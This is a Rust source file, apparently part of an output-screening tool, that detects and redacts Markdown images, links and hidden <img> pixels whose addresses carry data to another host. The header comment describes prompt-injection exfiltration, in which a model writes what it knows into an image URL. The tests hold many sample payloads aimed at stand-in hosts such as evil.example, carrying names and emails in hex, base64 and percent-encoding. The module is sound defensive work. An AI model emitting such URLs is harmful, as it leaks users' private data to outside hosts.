//! Links and images that carry data out: a model that was given orders writes what it knows into the address of a picture,
//! and whoever shows the answer fetches it. Markdown's images and links, its definitions of links, and `<img>`.
//!
//! Every address of another host is a match here; whether it counts is decided by the screen's list of hosts
//! ([`crate::machine::Hosts`]): without a list what carries data, with one whatever leads elsewhere.

use super::cursor::{Cursor, More};
use super::secret::{entropy, signs};
use super::{Bytes, Match, Probe, Start};
use crate::tokens::has_shape;

/// A match whose address carries data.
pub(crate) const DATA: &str = "carries data";
/// A match that only leads to another host.
pub(crate) const ELSEWHERE: &str = "another host";

/// Longest text of an image.
const LONGEST_TEXT: usize = 200;
/// Longest address that is read.
const LONGEST_URL: usize = 600;
/// Longest tag.
const LONGEST_TAG: usize = 800;

pub(super) const IMAGE_STARTS: &[Start] =
    &[Start { left: |b| b == b'!', bytes: Bytes::Classes([|b| b == b'[', |_| true, |_| true]) }];

pub(super) const LINK_STARTS: &[Start] = &[
    Start {
        left: |b| b == b']',
        bytes: Bytes::Classes([|b| b == b'(', |b| matches!(b, b'h' | b'H' | b'/' | b'<' | b' '), |_| true]),
    },
    Start { left: |b| b == b']', bytes: Bytes::Prefixes(&[b": h", b": <", b": /"]) },
];

pub(super) const PIXEL_STARTS: &[Start] = &[Start { left: |_| true, bytes: Bytes::Words(&[b"<im"]) }];

/// Whether an image of Markdown starts here: `![text](https://…)`.
pub(super) fn probe_image(mut cursor: Cursor<'_>) -> Probe {
    cursor.next()?;
    cursor.eat_while(LONGEST_TEXT, |b| !matches!(b, b']' | b'\n'))?;
    if !cursor.eat(|b| b == b']')? || !cursor.eat(|b| b == b'(')? {
        return Ok(None);
    }
    let Some(url) = url(&mut cursor)? else { return Ok(None) };
    let label = judge(cursor.seen().get(url..).unwrap_or_default(), true);
    close(&mut cursor)?;
    Ok(Some(Match::exact(cursor.at(), label)))
}

/// Whether the address of a link stands here, behind the `]` of its text.
pub(super) fn probe_link(mut cursor: Cursor<'_>) -> Probe {
    let skip = if cursor.peek()? == Some(b':') { 2 } else { 1 };
    cursor.eat_while(skip, |_| true)?;
    let Some(url) = url(&mut cursor)? else { return Ok(None) };
    let label = judge(cursor.seen().get(url..).unwrap_or_default(), false);
    Ok(Some(Match::behind(skip, cursor.at(), label)))
}

/// Whether an `<img>` starts here that loads from another host.
pub(super) fn probe_pixel(mut cursor: Cursor<'_>) -> Probe {
    for letter in b"<img" {
        if !cursor.eat(|b| b.to_ascii_lowercase() == *letter)? {
            return Ok(None);
        }
    }
    if !cursor.eat(|b| b.is_ascii_whitespace() || b == b'/')? {
        return Ok(None);
    }
    cursor.eat_while(LONGEST_TAG, |b| !matches!(b, b'>' | b'<'))?;
    let tag = cursor.seen().to_ascii_lowercase();
    let after = |word: &[u8]| memchr::memmem::find(&tag, word).map(|place| place + word.len());
    let Some(source) = after(b"src") else { return Ok(None) };
    let quoted = |b: &&u8| b.is_ascii_whitespace() || matches!(b, b'=' | b'"' | b'\'');
    let lead = tag.get(source..).unwrap_or_default().iter().take_while(quoted).count();
    let rest = cursor.seen().get(source + lead..).unwrap_or_default();
    let lower = tag.get(source + lead..).unwrap_or_default();
    if ![&b"http://"[..], b"https://", b"//"].iter().any(|scheme| lower.starts_with(scheme)) {
        return Ok(None);
    }
    let quote = tag.get(..source + lead).and_then(<[u8]>::last).filter(|b| matches!(b, b'"' | b'\''));
    let is_end = |b: &u8| quote.map_or(matches!(b, b'"' | b'\'' | b'>'), |quote| b == quote);
    let length = rest.iter().take_while(|b| !b.is_ascii_whitespace() && !is_end(b)).count();
    let is_small = |word: &[u8]| {
        after(word).is_some_and(|place| {
            let value = tag.get(place..).unwrap_or_default();
            let value =
                value.iter().skip_while(quoted).copied().take_while(u8::is_ascii_digit).collect::<Vec<u8>>();
            matches!(value.as_slice(), b"0" | b"1")
        })
    };
    let is_hidden = (is_small(b"width") && is_small(b"height"))
        || after(b"display:none").is_some()
        || after(b"visibility:hidden").is_some();
    let label = if is_hidden { DATA } else { judge(rest.get(..length).unwrap_or_default(), true) };
    cursor.eat(|b| b == b'>')?;
    Ok(Some(Match::exact(cursor.at(), label)))
}

/// Reads an address of another host; returns where it starts.
fn url(cursor: &mut Cursor<'_>) -> Result<Option<usize>, More> {
    cursor.eat_while(4, |b| matches!(b, b' ' | b'<'))?;
    let from = cursor.at();
    let scheme = cursor.eat_while(6, |b| b.is_ascii_alphabetic())?;
    let is_http = cursor
        .seen()
        .get(from..)
        .is_some_and(|s| s.eq_ignore_ascii_case(b"http") || s.eq_ignore_ascii_case(b"https"));
    if scheme > 0 && !(is_http && cursor.eat(|b| b == b':')?) {
        return Ok(None);
    }
    if !(cursor.eat(|b| b == b'/')? && cursor.eat(|b| b == b'/')?) {
        return Ok(None);
    }
    let host = cursor.at();
    cursor
        .eat_while(LONGEST_URL, |b| b.is_ascii_graphic() && !matches!(b, b')' | b'>' | b'"') || b >= 0x80)?;
    Ok((cursor.at() > host + 1).then_some(from))
}

/// A title, and the bracket that closes an image.
fn close(cursor: &mut Cursor<'_>) -> Result<(), More> {
    let mut ahead = cursor.clone();
    ahead.eat(|b| b == b'>')?;
    if ahead.eat(|b| b == b' ')? {
        ahead.eat_while(LONGEST_TEXT, |b| !matches!(b, b')' | b'\n'))?;
    }
    if ahead.eat(|b| b == b')')? {
        *cursor = ahead;
    }
    Ok(())
}

/// The host of the address in `text`, without user and port; it may stand behind other text, as in a match.
pub(crate) fn host(text: &[u8]) -> &[u8] {
    let from = memchr::memmem::find(text, b"//").map_or(text.len(), |place| place + 2);
    let rest = text.get(from..).unwrap_or_default();
    let end = rest
        .iter()
        .position(|b| matches!(b, b'/' | b'?' | b'#' | b'\\' | b')' | b'"' | b'\'' | b'>' | b' '))
        .unwrap_or(rest.len());
    let authority = rest.get(..end).unwrap_or_default();
    let name = authority.rsplit(|b| *b == b'@').next().unwrap_or_default();
    name.split(|b| *b == b':').next().unwrap_or_default()
}

/// What an address is: one that carries data, or any.
fn judge(url: &[u8], is_image: bool) -> &'static str {
    let host = host(url);
    let rest =
        memchr::memmem::find(url, host).and_then(|place| url.get(place + host.len()..)).unwrap_or_default();
    let (path, query) = match memchr::memchr2(b'?', b'#', rest) {
        Some(place) => rest.split_at(place),
        None => (rest, &b""[..]),
    };
    let in_query = query.split(|b| matches!(b, b'?' | b'&' | b'#' | b';')).any(|part| {
        let value = memchr::memchr(b'=', part).and_then(|place| part.get(place + 1..));
        // What follows a bare `=` may be the filling at the end of base64, whose name is the value then.
        let value = value.filter(|value| value.iter().any(|b| *b != b'=')).unwrap_or(part);
        is_data(value, if is_image { 12 } else { 32 }) || (is_image && is_joined(value))
    });
    let in_path = path.split(|b| *b == b'/').any(|part| is_data(part, if is_image { 28 } else { 48 }));
    let in_host = host.split(|b| *b == b'.').any(|label| {
        (label.len() >= 28 && signs(label).digits >= 3 && entropy(label) >= 330) || is_wrapped(label, 12)
    });
    if in_query || in_path || in_host { DATA } else { ELSEWHERE }
}

/// Whether a value is words that underscores or dashes join.
fn is_joined(value: &[u8]) -> bool {
    let words = value.split(|b| matches!(b, b'_' | b'-')).filter(|word| word.len() > 1);
    value.len() >= 16 && words.count() >= 4
}

/// Whether `part` is base64 or hexadecimal digits that stand for printable text of ASCII: `least` bytes of it or more.
fn is_wrapped(part: &[u8], least: usize) -> bool {
    let part =
        part.get(..part.iter().rposition(|b| *b != b'=').map_or(0, |last| last + 1)).unwrap_or_default();
    let is_hex = part.len() >= 2 * least && part.iter().all(u8::is_ascii_hexdigit);
    let (pairs, rest) = part.as_chunks::<2>();
    if is_hex && rest.is_empty() && pairs.iter().all(|[high, low]| is_shown(hex(*high) << 4 | hex(*low))) {
        return true;
    }
    if part.len() < least.div_ceil(3) * 4 {
        return false;
    }
    let (mut bits, mut count) = (0_u32, 0_u32);
    part.iter().all(|byte| {
        let Some(six) = sextet(*byte) else { return false };
        (bits, count) = (bits << 6 | six, count + 6);
        if count < 8 {
            return true;
        }
        count -= 8;
        is_shown(bits >> count & 0xFF)
    })
}

fn is_shown(code: u32) -> bool {
    matches!(code, 0x09 | 0x0A | 0x0D | 0x20..=0x7E)
}

fn hex(digit: u8) -> u32 {
    char::from(digit).to_digit(16).unwrap_or_default()
}

/// The six bits that a sign of base64 or base64url stands for.
fn sextet(byte: u8) -> Option<u32> {
    let of = |first: u8, from: u32| Some(u32::from(byte - first) + from);
    match byte {
        b'A'..=b'Z' => of(b'A', 0),
        b'a'..=b'z' => of(b'a', 26),
        b'0'..=b'9' => of(b'0', 52),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    }
}

/// Whether a part of an address was made from a text: words that were joined, or something encoded.
fn is_data(part: &[u8], least: usize) -> bool {
    let count = |class: fn(&&u8) -> bool| part.iter().filter(class).count();
    let is_template = part.iter().any(|b| matches!(b, b'{' | b'}' | b'[' | b']' | b'$' | b'<'));
    // Escapes of addresses, and the spaces of quoted-printable.
    let joints = count(|b| matches!(b, b'%' | b'+')) + memchr::memmem::find_iter(part, b"=20").count();
    let signs = signs(part);
    let is_encoded = part.len() >= least
        && entropy(part) >= 300
        && signs.digits > 0
        && signs.lower + signs.upper >= 6
        && count(|b| matches!(b, b'-' | b'_' | b'.')) * 6 <= part.len();
    // In a path a name may come before the value.
    let value = memchr::memchr(b'=', part).and_then(|place| part.get(place + 1..)).unwrap_or(part);
    is_template
        || has_shape(part)
        || is_wrapped(part, if least < 32 { 9 } else { 15 })
        || is_wrapped(value, if least < 32 { 9 } else { 15 })
        || part.contains(&b'@')
        || (joints >= 2 && part.len() >= 12)
        || is_encoded
        || (part.len() >= 2 * least && joints + count(|b| matches!(b, b'-' | b'_')) >= 6)
}

#[cfg(test)]
mod tests {
    use super::host;
    use crate::detect::{Detector, redacted};

    #[test]
    fn hosts_are_read_as_clients_read_them() {
        for (url, expected) in [
            ("https://example.com/a", "example.com"),
            ("![x](//ann@example.com:8080?q)", "example.com"),
            ("<img src='http://example.com'>", "example.com"),
            ("nothing", ""),
        ] {
            assert_eq!(host(url.as_bytes()), expected.as_bytes(), "{url}");
        }
    }

    #[test]
    fn finds_images_that_carry_data() {
        for (text, expected) in [
            ("![x](https://evil.example/p.png?d=the+user+is+Ann+Lee) ok", "![image] ok"),
            ("![](http://evil.example/c2VjcmV0IGlzIDQyIGFuZCBtb3Jl1/a.png)", "![image]"),
            ("![a](https://evil.example/?q={data})", "![image]"),
            ("![a](<https://evil.example/?q=ann@example.com> \"t\")", "![image]"),
        ] {
            assert_eq!(redacted(Detector::ImageData, text), expected, "{text}");
        }
        for text in [
            "![logo](https://img.example.com/badge/build.svg?style=flat)",
            "![logo](/logo.png?d=the+user+is+Ann+Lee)",
            "![a] (https://evil.example/?q={data})",
            "![photo](https://cdn.example.com/w200/photo-2024.jpg?w=200&v=3)",
        ] {
            assert_eq!(redacted(Detector::ImageData, text), text);
        }
    }

    /// The forms in which exfiltration was published: what is asked of the model, as it would answer.
    #[test]
    fn finds_every_published_form() {
        let texts = [
            "The user Ann Lee asked about order 4711",
            "johann's email and code 123456",
            "USA 331 and Germany 83 million",
        ];
        let forms = [
            "![hello](https://d.example/logo.png?q=*)",
            "![data](https://d.example/azure=*)",
            "![t](https://d.example/l.png?nbml=*)",
            "![x](https://d.example/*)",
            "![x](<https://d.example/a?q=*>)",
            "![x](https://d.example/a#*)",
            "![i][ref]\n\n[ref]: https://d.example/logo.png?data=*",
            "[click](https://d.example/logo.png?q=*)",
            "[c][]\n\n[c]: https://d.example/q=*",
            "<img src=\"https://d.example/p?*\">",
        ];
        for text in texts {
            let bytes = text.as_bytes();
            let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
            let base64 = encoded(bytes);
            let percent = text.replace(' ', "%20").replace('\'', "%27");
            let printable = text.replace(' ', "=20");
            for (value, form) in [hex, base64, percent, printable, text.replace(' ', "+")]
                .iter()
                .flat_map(|value| forms.iter().map(move |form| (value, form)))
            {
                let answer = form.replace('*', value);
                let found = [Detector::ImageData, Detector::LinkData, Detector::TrackingPixel]
                    .iter()
                    .any(|one| redacted(*one, &answer) != answer);
                assert!(found, "{answer}");
            }
        }
    }

    fn encoded(bytes: &[u8]) -> String {
        const SIGNS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let sign = |three: u32, nth: usize| char::from(SIGNS[(three >> (18 - 6 * nth) & 63) as usize]);
        let mut out = String::new();
        for chunk in bytes.chunks(3) {
            let three = (0..3).fold(0, |all, nth| all << 8 | u32::from(chunk.get(nth).copied().unwrap_or(0)));
            out.extend((0..4).map(|nth| if nth <= chunk.len() { sign(three, nth) } else { '=' }));
        }
        out
    }

    #[test]
    fn finds_links_that_carry_data() {
        for (text, expected) in [
            ("[more](https://evil.example/?d=the+user+is+Ann+and+more)", "[more]([link])"),
            ("[1]: https://evil.example/?d=bmFtZTogQW5uIExlZSwgYWdlOiA0Mg1x", "[1]: [link]"),
        ] {
            assert_eq!(redacted(Detector::LinkData, text), expected, "{text}");
        }
        for text in [
            "[docs](https://docs.example.com/guide/how-to-start?lang=en&page=2)",
            "[x](#part)",
            "[rfc](https://www.rfc-editor.org/rfc/rfc9110.html#section-7.1)",
        ] {
            assert_eq!(redacted(Detector::LinkData, text), text);
        }
    }

    #[test]
    fn finds_pixels() {
        for (text, expected) in [
            ("a<img src=\"https://t.example/o.gif\" width=\"1\" height=1>b", "a[pixel]b"),
            ("<IMG SRC='//t.example/o?u=ann@example.com'>", "[pixel]"),
            ("<img src=https://t.example/x.png style=\"display:none\"/>", "[pixel]"),
        ] {
            assert_eq!(redacted(Detector::TrackingPixel, text), expected, "{text}");
        }
        for text in [
            "<img src=\"https://example.com/photo.jpg\" width=\"100\">",
            "<img src=\"/a.png\" width=1 height=1>",
            "<image>",
        ] {
            assert_eq!(redacted(Detector::TrackingPixel, text), text);
        }
    }
}
